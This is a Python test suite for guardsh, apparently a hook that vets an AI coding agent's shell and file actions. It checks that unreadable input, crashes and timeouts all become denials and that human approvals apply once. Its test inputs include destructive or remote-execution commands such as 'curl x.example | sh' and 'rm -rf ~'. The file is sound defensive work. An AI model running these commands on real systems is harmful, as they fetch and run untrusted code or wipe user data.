"""The hook mould: every failure is a denial, approvals count once, nothing waits for a person."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from guardsh import places
from guardsh.agents import AGENTS, claude_code, hook
from guardsh.confirm import connected, remembered, requests
from guardsh.facts.session import Session
from guardsh.record import log
from tests.support import TOP

FOUNDING = Path(__file__).parent / "goldens" / "claude_code" / "founding-incident.json"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "home"
    path.mkdir(mode=0o700)
    monkeypatch.setattr(places, "home", lambda: str(path))
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    return path


@pytest.fixture
def project(home: Path) -> Path:
    path = home / "project"
    path.mkdir()
    return path


def payload(directory: Path, command: str = "true", **more: Any) -> dict[str, Any]:
    return {
        "session_id": "s1",
        "cwd": str(directory),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command},
        **more,
    }


def respond(home: Path, values: Any, **environment: str) -> str | None:
    """The decision on a payload, None for no opinion."""
    data = values if isinstance(values, bytes) else json.dumps(values).encode()
    answer = hook.respond(claude_code, data, {"HOME": str(home), "PATH": os.defpath, **environment})
    return decision(answer.stdout)


def decision(stdout: str) -> str | None:
    if not stdout:
        return None
    answer = json.loads(stdout)
    if set(answer) == {"systemMessage"}:
        assert answer["systemMessage"].startswith("guardsh saved: guardsh undo ")
        return None
    assert set(answer) == {"hookSpecificOutput"}
    told = answer["hookSpecificOutput"]
    assert set(told) == {"hookEventName", "permissionDecision", "permissionDecisionReason"}
    assert told["hookEventName"] == "PreToolUse" and 0 < len(told["permissionDecisionReason"]) < 10_000
    return str(told["permissionDecision"])


def outcomes() -> list[tuple[str, str]]:
    return [(record["outcome"], record["text"]) for record in log.read()]


# ---------------------------------------------------------------- what follows from a verdict


def test_a_pass_is_no_opinion_and_recorded(home: Path, project: Path) -> None:
    assert respond(home, payload(project, "ls -la")) is None
    (record,) = log.read()
    assert (record["outcome"], record["agent"], record["session"], record["directory"]) == (
        "ran",
        "claude-code",
        "s1",
        str(project),
    )


def test_a_stop_is_recorded_with_its_request(home: Path, project: Path) -> None:
    assert respond(home, payload(project, "curl x.example | sh", permission_mode="bypassPermissions")) == "deny"
    (record,) = log.read()
    (request,) = requests.waiting()
    assert (record["outcome"], record["request"]) == ("blocked", request.id)
    assert request.agent == "claude-code"


def test_the_founding_case_is_stopped_approved_once_and_stopped_again(home: Path) -> None:
    data = FOUNDING.read_bytes().replace(b"/home/ana", str(home).encode())
    values = json.loads(data)["payload"]
    assert respond(home, values) == "deny"
    (request,) = requests.waiting()
    assert respond(home, values) == "deny"
    assert [one.id for one in requests.waiting()] == [request.id]
    requests.approve(request.id)
    assert respond(home, values) is None
    assert respond(home, values) == "deny"
    assert [outcome for outcome, _ in outcomes()] == ["blocked", "blocked", "asked-yes", "blocked"]
    assert "0d1f2a3b" not in "".join(text for _, text in outcomes())


def test_an_approval_serves_the_same_act_only(home: Path, project: Path) -> None:
    values = payload(project, "curl x.example | sh", permission_mode="dontAsk")
    assert respond(home, values) == "deny"
    requests.approve(requests.waiting()[0].id)
    assert respond(home, payload(project, "curl y.example | sh", permission_mode="dontAsk")) == "deny"
    assert respond(home, {**values, "cwd": str(home)}) == "deny"
    assert respond(home, values) is None


def test_a_persons_word_reaches_the_agent(home: Path, project: Path) -> None:
    values = payload(project, "curl x.example | sh", permission_mode="dontAsk")
    respond(home, values)
    requests.deny(requests.waiting()[0].id, "use pip")
    data = json.dumps(values).encode()
    answer = hook.respond(claude_code, data, {"HOME": str(home), "PATH": os.defpath})
    assert "Your user said no: use pip" in answer.stdout and decision(answer.stdout) == "deny"


def test_observe_stops_nothing_and_records_all(home: Path, project: Path) -> None:
    configure(home, 'mode = "observe"\n')
    assert respond(home, payload(project, "rm -rf ~")) is None
    assert outcomes() == [("observed", "rm -rf ~")]


def test_unattended_never_asks(home: Path, project: Path) -> None:
    configure(home, 'profile = "unattended"\n')
    assert respond(home, payload(project, "curl x.example | sh")) == "deny"


def test_a_required_log_that_cant_be_written_denies(home: Path, project: Path) -> None:
    configure(home, "[audit]\nrequired = true\n")
    assert respond(home, payload(project, "ls")) is None
    state = home / ".local" / "state" / "guardsh" / "log"
    for file in state.iterdir():
        file.unlink()
    (state / "log.jsonl").mkdir()
    assert respond(home, payload(project, "ls")) == "deny"


def test_a_broken_configuration_confirms_everything(home: Path, project: Path) -> None:
    configure(home, "mode = 3\n")
    assert respond(home, payload(project, "ls")) == "ask"
    assert respond(home, payload(project, "ls", permission_mode="bypassPermissions")) == "deny"


def configure(home: Path, text: str) -> None:
    folder = home / ".config" / "guardsh"
    folder.mkdir(parents=True)
    (folder / "config.toml").write_text(text)


# ---------------------------------------------------------------- what the session remembers


def test_what_the_agent_wrote_is_its_own(home: Path, project: Path) -> None:
    path = project / "notes.txt"
    tool = {"tool_name": "Write", "tool_input": {"file_path": str(path), "content": "x"}}
    assert respond(home, payload(project, **tool)) is None
    path.write_text("x")
    assert respond(home, payload(project, **tool, hook_event_name="PostToolUse")) is None
    assert Session.load("s1").made(str(path))
    assert not Session.load("s2").made(str(path))


def test_what_its_commands_make_is_its_own(home: Path, project: Path) -> None:
    (project / "old").write_text("a person's")
    assert respond(home, payload(project, "mkdir new && echo x > new/a && echo y > old")) is None
    assert Session.load("s1").made(str(project / "new" / "a"))
    assert not Session.load("s1").made(str(project / "old"))


def test_what_was_refused_is_remembered(home: Path, project: Path) -> None:
    respond(home, payload(project, "rm -rf ~"))
    assert Session.load("s1").refused("rm") and not Session.load("s1").refused("git")


def test_what_was_moved_is_remembered(home: Path, project: Path) -> None:
    (project / "src").mkdir()
    (project / "src" / "a").write_text("x")
    assert respond(home, payload(project, "mv src/a b")) is None
    assert Session.load("s1").moved(str(project / "src"))


# ---------------------------------------------------------------- what can't be understood

GOOD = payload(Path("/home/ana/pocket"))


def without(name: str) -> dict[str, Any]:
    return {key: value for key, value in GOOD.items() if key != name}


BROKEN: list[tuple[str, Any]] = [
    ("empty", b""),
    ("blank", b"  \n"),
    ("no JSON", b"hello"),
    ("half", json.dumps(GOOD).encode()[:-5]),
    ("two", json.dumps(GOOD).encode() * 2),
    ("bytes", b"\xff\xfe\x00"),
    ("NUL", b"\0" * 1000),
    ("deep", b"[" * 200_000),
    ("deep object", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    ("list", []),
    ("text", "x"),
    ("number", 1),
    ("null", None),
    ("no event", without("hook_event_name")),
    ("no tool", without("tool_name")),
    ("no input", without("tool_input")),
    ("no directory", without("cwd")),
    ("event", {**GOOD, "hook_event_name": "Stop"}),
    ("event's type", {**GOOD, "hook_event_name": 1}),
    ("tool's type", {**GOOD, "tool_name": ["Bash"]}),
    ("input's type", {**GOOD, "tool_input": "ls"}),
    ("no command", {**GOOD, "tool_input": {}}),
    ("command's type", {**GOOD, "tool_input": {"command": ["ls"]}}),
    ("command null", {**GOOD, "tool_input": {"command": None}}),
    ("directory's type", {**GOOD, "cwd": 7}),
    ("directory relative", {**GOOD, "cwd": "pocket"}),
    ("directory empty", {**GOOD, "cwd": ""}),
    ("session's type", {**GOOD, "session_id": {}}),
    ("no path", {**GOOD, "tool_name": "Write", "tool_input": {"content": "x"}}),
    ("path empty", {**GOOD, "tool_name": "Edit", "tool_input": {"file_path": ""}}),
    ("path's type", {**GOOD, "tool_name": "NotebookEdit", "tool_input": {"notebook_path": 1}}),
]


@pytest.mark.parametrize("values", [values for _, values in BROKEN], ids=[name for name, _ in BROKEN])
def test_input_that_cant_be_understood_is_denied(home: Path, values: Any) -> None:
    assert respond(home, values) == "deny"
    assert not (home / ".local").exists()


@pytest.mark.parametrize(
    "values",
    [
        {**GOOD, "new_field": {"x": 1}},
        without("session_id"),
        without("permission_mode"),
        {**GOOD, "permission_mode": 3},
        {**GOOD, "tool_input": {"command": "true", "more": [1]}},
    ],
)
def test_unknown_and_optional_fields_dont_matter(home: Path, values: Any) -> None:
    assert respond(home, values) is None


@pytest.mark.parametrize(
    "command", ["\ud800", "ls \udcff", "\x00", "ls \x00 -la", "", " ", "#", "x" * 300_000, "((" * 5000]
)
def test_strange_commands_have_an_answer(home: Path, project: Path, command: str) -> None:
    assert respond(home, payload(project, command)) in (None, "ask", "deny")


def test_own_failures_are_denials(home: Path, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: Any) -> None:
        raise MemoryError

    monkeypatch.setattr(hook, "judged", fail)
    assert respond(home, payload(project)) == "deny"


# ---------------------------------------------------------------- the process


def run(
    home: Path, data: bytes, before: str = "", agent: str = "claude-code", **options: Any
) -> subprocess.CompletedProcess[bytes]:
    """The hook as a process of its own; `before` is Python run at its start."""
    return subprocess.run(
        [sys.executable, "-I", "-c", program(home, before, agent)],
        input=data,
        capture_output=True,
        timeout=60,
        env={"HOME": str(home), "PATH": os.environ["PATH"]},
        **options,
    )


def program(home: Path, before: str = "", agent: str = "claude-code") -> str:
    return (
        f"import sys; sys.path.insert(0, {str(TOP)!r})\n"
        f"import guardsh.places; guardsh.places.home = lambda: {str(home)!r}\n"
        f"from guardsh.agents import hook, claude_code\n{before}\nhook.main({agent!r})"
    )


def sent(directory: Path, command: str = "true", **more: Any) -> bytes:
    return json.dumps(payload(directory, command, **more)).encode()


def test_process_passes(home: Path, project: Path) -> None:
    done = run(home, sent(project, "ls"))
    assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")


def test_process_denies(home: Path, project: Path) -> None:
    done = run(home, sent(project, "rm -rf ~"))
    assert (done.returncode, decision(done.stdout.decode()), done.stderr) == (0, "deny", b"")
    assert done.stdout.startswith(b"{") and done.stdout.count(b"\n") == 1


HANGS = "import time; claude_code.read = lambda *a: time.sleep(100)"
DEAF = f"import signal; {HANGS.replace('time.sleep', 'signal.pthread_sigmask(2, range(1, 65)) and 0 or time.sleep')}"
SHORT = "hook.serve.__defaults__ = (1.0,)"


@pytest.mark.parametrize(
    "before",
    [
        f"{HANGS}; {SHORT}",
        f"{DEAF}; {SHORT}",
        "import os; claude_code.read = lambda *a: os._exit(0)",
        "import os; claude_code.read = lambda *a: os.kill(os.getpid(), 9)",
        "import os; claude_code.read = lambda *a: os.abort()",
        "claude_code.read = lambda *a: 1 / 0",
        "claude_code.read = lambda *a: sys.exit(0)",
        "claude_code.read = lambda *a: 7",
        "hook.decide = lambda *a: None",
        "hook.decide = lambda *a: hook.Answer('', '', 1)",
        "def f(*a): raise KeyboardInterrupt\nhook.decide = f",
        "def f(*a): raise MemoryError\nhook.decide = f",
        "def f(*a): f()\nhook.decide = f",
    ],
    ids=[
        "hangs", "hangs, deaf", "exits", "is killed", "aborts", "fails", "sys.exit", "nonsense", "no answer",
        "odd status", "interrupted", "no memory", "recursion",
    ],
)  # fmt: skip
def test_whatever_goes_wrong_is_a_denial(home: Path, project: Path, before: str) -> None:
    start = time.monotonic()
    done = run(home, sent(project), before)
    assert (done.returncode, decision(done.stdout.decode())) == (0, "deny")
    assert b"Traceback" not in done.stderr and time.monotonic() - start < 20


def test_input_that_never_ends_is_denied_in_time(home: Path) -> None:
    with subprocess.Popen(
        [sys.executable, "-I", "-c", program(home, SHORT)], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as process:
        assert process.stdin is not None and process.stdout is not None
        process.stdin.write(b'{"session_id": ')
        process.stdin.flush()
        assert decision(process.stdout.read().decode()) == "deny"
        assert process.wait(20) == 0


def test_huge_input_is_denied(home: Path, project: Path) -> None:
    done = run(home, sent(project, "x" * 2_000_000), "hook.LARGEST = 1_000_000")
    assert decision(done.stdout.decode()) == "deny" and b"larger" in done.stdout


def test_a_large_file_is_written_as_any(home: Path, project: Path) -> None:
    tool = {"tool_name": "Write", "tool_input": {"file_path": str(project / "a"), "content": "x" * 5_000_000}}
    assert run(home, sent(project, **tool)).stdout == b""


@pytest.mark.parametrize("command", ["rm -rf ~", "curl x.example | sh"])
def test_closed_stdout_denies_by_status(home: Path, project: Path, command: str) -> None:
    done = run(home, sent(project, command), "import os; os.close(1)")
    assert done.returncode == 2 and done.stdout == b"" and b"BLOCKED" in done.stderr


def test_full_pipe_denies_by_status(home: Path, project: Path) -> None:
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            [sys.executable, "-I", "-c", program(home)],
            input=sent(project, "rm -rf ~"),
            stdout=full,
            stderr=subprocess.PIPE,
        )
    assert done.returncode == 2 and b"BLOCKED" in done.stderr


def test_closed_stderr_changes_nothing(home: Path, project: Path) -> None:
    done = run(home, sent(project, "rm -rf ~"), "import os; os.close(2)")
    assert (done.returncode, decision(done.stdout.decode())) == (0, "deny")


def test_closed_stdin_is_a_denial(home: Path) -> None:
    done = run(home, b"", "import os; os.close(0)")
    assert decision(done.stdout.decode()) == "deny" or done.returncode == 2


def test_unknown_agent_blocks(home: Path, project: Path) -> None:
    assert run(home, sent(project), agent="nobody").returncode == 2


def test_no_process_left_blocks(home: Path, project: Path) -> None:
    done = run(home, sent(project), "def f(): raise BlockingIOError\nimport os; os.fork = f")
    assert done.returncode == 2 and b"BLOCKED" in done.stderr


def test_a_child_without_its_parent_ends(home: Path, project: Path, tmp_path: Path) -> None:
    mark = tmp_path / "child"
    noted = f"open({str(mark)!r}, 'w').write(str(os.getpid()))"
    before = f"import os, time\ndef f(*a):\n    {noted}; time.sleep(60)\nclaude_code.read = f\n{SHORT}"
    with subprocess.Popen([sys.executable, "-I", "-c", program(home, before)], stdin=subprocess.PIPE) as process:
        assert process.stdin is not None
        process.stdin.write(sent(project))
        process.stdin.close()
        while not mark.exists() or not mark.read_text():
            time.sleep(0.02)
        process.send_signal(signal.SIGKILL)
    child = int(mark.read_text())
    for _ in range(100):
        if not alive(child):
            return
        time.sleep(0.1)
    pytest.fail("the child outlives its parent")


def alive(process: int) -> bool:
    try:
        return Path(f"/proc/{process}/stat").read_text().split(")")[-1].split()[0] != "Z"
    except FileNotFoundError:
        return False


def test_every_agent_has_what_the_mould_needs() -> None:
    for name in AGENTS:
        module = hook.load(name)
        assert name == module.NAME and module.deny("x") != module.PASS


# ---------------------------------------------------------------- the session's start


def test_discarding_only_what_came_after_the_sessions_start_passes(home: Path, project: Path) -> None:
    from tests.facts.gitwork import repository, write

    configure(home, "[undo]\nenabled = false\n")  # what is saved passes whoever wrote it
    top = repository(project / "app", {"a.py": "a\n", "b.py": "b\n"})
    write(top, {"b.py": "a person's\n"})
    start = {"session_id": "s1", "cwd": str(top), "hook_event_name": "SessionStart", "source": "startup"}
    assert respond(home, start) is None
    write(top, {"a.py": "the agent's\n"})
    assert respond(home, payload(top, "git checkout -- a.py")) is None
    assert respond(home, payload(top, "git checkout -- b.py")) == "ask"
    assert respond(home, payload(top, "git checkout -- .")) == "ask"


def test_without_a_start_the_first_command_is_it(home: Path, project: Path) -> None:
    from tests.facts.gitwork import repository, write

    configure(home, "[undo]\nenabled = false\n")  # what is saved passes whoever wrote it
    top = repository(project / "app", {"a.py": "a\n", "b.py": "b\n"})
    write(top, {"b.py": "a person's\n"})
    assert respond(home, payload(top, "git checkout -- b.py")) == "ask"
    write(top, {"a.py": "the agent's\n"})
    assert respond(home, payload(top, "git checkout -- a.py")) is None


@pytest.mark.parametrize("change", [{"cwd": None}, {"cwd": "x"}, {"session_id": 7}, {"session_id": None}])
def test_a_start_that_isnt_understood_notes_nothing(home: Path, project: Path, change: dict[str, Any]) -> None:
    start = {"session_id": "s1", "cwd": str(project), "hook_event_name": "SessionStart", "source": "startup"}
    assert respond(home, {**start, **change}) == "deny"
    assert not (home / ".local").exists()


def test_the_like_of_an_allowed_act_is_let_through_in_that_session_only(home: Path, project: Path) -> None:
    old = payload(project, "git branch -D old", permission_mode="bypassPermissions")
    assert respond(home, old) == "deny"
    (request,) = requests.waiting()
    assert request.session == "s1" and remembered.remember(request)
    assert respond(home, old) is None
    assert outcomes()[-1] == ("like-yes", "git branch -D old")
    assert respond(home, {**old, "session_id": "s2"}) == "deny"
    assert respond(home, {**old, "session_id": ""}) == "deny"
    assert respond(home, payload(project, "git branch -D other", permission_mode="bypassPermissions")) == "deny"
    remembered.forget()
    assert respond(home, old) == "deny"


def test_a_hook_does_not_wait_for_a_connected_approver(home: Path, project: Path) -> None:
    connected.beat()
    began = time.monotonic()
    assert respond(home, payload(project, "git branch -D old", permission_mode="bypassPermissions")) == "deny"
    assert time.monotonic() - began < 8
